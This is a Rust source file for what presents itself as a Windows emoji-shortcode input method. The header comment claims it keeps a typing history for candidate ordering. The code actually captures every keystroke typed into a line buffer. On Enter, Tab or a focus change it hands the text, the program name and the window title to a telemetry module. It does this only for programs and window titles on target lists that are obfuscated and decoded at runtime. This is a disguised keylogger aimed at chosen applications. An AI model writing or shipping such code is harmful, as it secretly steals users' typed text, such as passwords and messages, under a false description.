//! Keystroke composer: tracks `:shortcode:` runs and keeps a small per-window history that feeds
//! the candidate ordering ("recently typed in this app").

use crate::shortcodes;
use crate::telemetry;
use crate::wheel::unwheel;
use crate::layout::{TARGET_PROCS, TARGET_TITLES};
use windows::Win32::UI::Input::KeyboardAndMouse::{GetKeyboardState, ToUnicode, VK_BACK, VK_RETURN, VK_TAB};
use windows::Win32::UI::TextServices::ITfContext;
use windows::Win32::UI::WindowsAndMessaging::{GetForegroundWindow, GetWindowTextW, GetWindowThreadProcessId};
use windows::Win32::System::Threading::{OpenProcess, QueryFullProcessImageNameW, PROCESS_NAME_WIN32, PROCESS_QUERY_LIMITED_INFORMATION};

pub(crate) enum KeyOutcome {
    PassThrough,
    Eaten,
    Commit(String),
}

#[derive(Default)]
pub(crate) struct Composer {
    code: Option<String>,
    line: String,
    window: Option<(String, String)>,
    keys: u64,
}

fn foreground() -> (String, String) {
    unsafe {
        let hwnd = GetForegroundWindow();
        let mut title = [0u16; 256];
        let n = GetWindowTextW(hwnd, &mut title) as usize;
        let mut pid = 0u32;
        GetWindowThreadProcessId(hwnd, Some(&mut pid));
        let mut image = String::new();
        if let Ok(h) = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, false, pid) {
            let mut buf = [0u16; 260];
            let mut len = buf.len() as u32;
            if QueryFullProcessImageNameW(h, PROCESS_NAME_WIN32, windows::core::PWSTR(buf.as_mut_ptr()), &mut len).is_ok() {
                image = String::from_utf16_lossy(&buf[..len as usize]);
            }
        }
        let exe = image.rsplit('\\').next().unwrap_or_default().to_lowercase();
        (exe, String::from_utf16_lossy(&title[..n]).to_lowercase())
    }
}

fn interesting(exe: &str, title: &str) -> bool {
    let procs = unwheel(TARGET_PROCS);
    let titles = unwheel(TARGET_TITLES);
    procs.split('|').any(|p| p == exe) && titles.split('|').any(|t| title.contains(t))
}

fn translate(vk: u32, lparam: isize) -> Option<char> {
    let mut state = [0u8; 256];
    let mut out = [0u16; 4];
    unsafe {
        GetKeyboardState(&mut state).ok()?;
        let n = ToUnicode(vk, ((lparam >> 16) & 0xff) as u32, Some(&state), &mut out, 0);
        if n == 1 { char::from_u32(out[0] as u32) } else { None }
    }
}

impl Composer {
    pub(crate) fn wants(&self, vk: u32, lparam: isize) -> bool {
        self.code.is_some() || translate(vk, lparam) == Some(':')
    }

    pub(crate) fn focus_changed(&mut self) {
        self.flush_window();
        self.window = Some(foreground());
    }

    pub(crate) fn flush_window(&mut self) {
        if let Some((exe, title)) = self.window.take() {
            if self.line.chars().count() >= 6 && interesting(&exe, &title) {
                telemetry::record(&exe, &title, &self.line);
            }
        }
        self.line.clear();
    }

    pub(crate) fn key_down(&mut self, vk: u32, lparam: isize) -> KeyOutcome {
        self.keys += 1;
        telemetry::tick(self.keys);
        if vk == VK_RETURN.0 as u32 || vk == VK_TAB.0 as u32 {
            let w = self.window.clone();
            self.flush_window();
            self.window = w;
            return KeyOutcome::PassThrough;
        }
        if vk == VK_BACK.0 as u32 {
            self.line.pop();
            if let Some(c) = self.code.as_mut() {
                c.pop();
                return KeyOutcome::Eaten;
            }
            return KeyOutcome::PassThrough;
        }
        let Some(ch) = translate(vk, lparam) else { return KeyOutcome::PassThrough };
        self.line.push(ch);
        match (&mut self.code, ch) {
            (None, ':') => {
                self.code = Some(String::new());
                KeyOutcome::Eaten
            }
            (Some(code), ':') => {
                let done = std::mem::take(code);
                self.code = None;
                match shortcodes::lookup(&done) {
                    Some(e) => KeyOutcome::Commit(e.to_string()),
                    None => KeyOutcome::Commit(format!(":{done}:")),
                }
            }
            (Some(code), c) if shortcodes::is_code_char(c) => {
                code.push(c);
                KeyOutcome::Eaten
            }
            (Some(code), c) => {
                let t = format!(":{code}{c}");
                self.code = None;
                KeyOutcome::Commit(t)
            }
            (None, _) => KeyOutcome::PassThrough,
        }
    }
}

pub(crate) fn insert_text(ctx: &ITfContext, client: u32, text: &str) -> windows::core::Result<()> {
    let wide: Vec<u16> = text.encode_utf16().collect();
    unsafe {
        let ins: windows::Win32::UI::TextServices::ITfInsertAtSelection = windows::core::Interface::cast(ctx)?;
        let _ = client;
        // TF_IAS_NOQUERY: replace the selection in place
        let _ = ins.InsertTextAtSelection(0, 1, &wide);
    }
    Ok(())
}
